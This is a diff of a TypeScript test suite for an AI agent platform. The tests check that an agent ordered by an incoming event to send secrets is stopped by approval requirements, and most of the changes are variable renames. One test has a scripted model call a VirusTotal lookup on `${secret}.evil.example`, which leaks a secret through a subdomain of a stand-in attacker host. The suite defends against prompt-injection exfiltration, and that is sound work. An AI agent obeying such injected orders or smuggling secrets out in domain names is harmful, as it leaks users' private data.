@@ -55,14 +55,14 @@ const virusTotalCalls = ({ called }: World) =>
   called.filter(({ url }) => url.includes('virustotal'));
 
 const runAgent = async (
-  more: object,
+  overrides: object,
   decision: 'approve' | 'reject' | 'ignore',
   script: Script = obedientScript,
   start: object = {},
   trigger?: Trigger,
 ) => {
   const one = world(script, peer);
-  const id = await one.start(agentGraph(more, start), { note: order }, trigger);
+  const id = await one.start(agentGraph(overrides, start), { note: order }, trigger);
   let before = -1;
   await one.drive(id, {
     decisions: { find: decision },
@@ -86,7 +86,7 @@ describe('an event that orders an AI agent to send secrets', () => {
     expect(asked).toMatchObject([
       { asked_call: { arguments: { domain: `${secret}.evil.example` } } },
     ]);
-    expect(toolReturnsOf(one.asked.at(-1) as ModelTurn).at(-1)).toContain('Do not retry it');
+    expect(toolReturnsOf(one.modelTurns.at(-1) as ModelTurn).at(-1)).toContain('Do not retry it');
     expect(result?.status).toBe('SUCCEEDED');
   });
 
@@ -100,7 +100,7 @@ describe('an event that orders an AI agent to send secrets', () => {
 
   it('fails an AI agent without approvers before the model is asked', async () => {
     const { one, run } = await runAgent({ ...approved, approvers: [] }, 'approve');
-    expect(one.asked).toEqual([]);
+    expect(one.modelTurns).toEqual([]);
     expect(run.errors.join()).toContain(
       '"Look up a domain at VirusTotal" sends data that the agent chooses to others, and the agent ' +
         'reads private data and text that somebody else may have written ("Read an Okta user"). ' +
@@ -121,11 +121,11 @@ describe('an event that orders an AI agent to send secrets', () => {
   const byListener = { trigger_type: 'event_driven', listener_id: `lis_${'0'.repeat(32)}` };
 
   it('needs no approval when the AI agent can read no private data', async () => {
-    const looks = answersInOrder(
+    const lookScript = answersInOrder(
       toolCallAnswer(toolCall('virustotal_look_up_domain', { domain: 'evil.example' })),
       textAnswer('Known.'),
     );
-    const { one, asked } = await runAgent(alone, 'ignore', looks, byListener);
+    const { one, asked } = await runAgent(alone, 'ignore', lookScript, byListener);
     expect(asked).toEqual([]);
     expect(virusTotalCalls(one)).toHaveLength(1);
   });
@@ -153,9 +153,9 @@ describe('an event that orders an AI agent to send secrets', () => {
   it('makes the check require approvers when its data is private', () => {
     const problems = (start: object) =>
       check(agentGraph(alone, start)).map(({ message }) => message);
-    const needed = 'Enter approvers for its calls.';
+    const problem = 'Enter approvers for its calls.';
     expect(problems({ trigger_type: 'compliance_finding' })).toEqual([
-      expect.stringContaining(needed),
+      expect.stringContaining(problem),
     ]);
     expect(problems(byListener)).toEqual([]);
   });
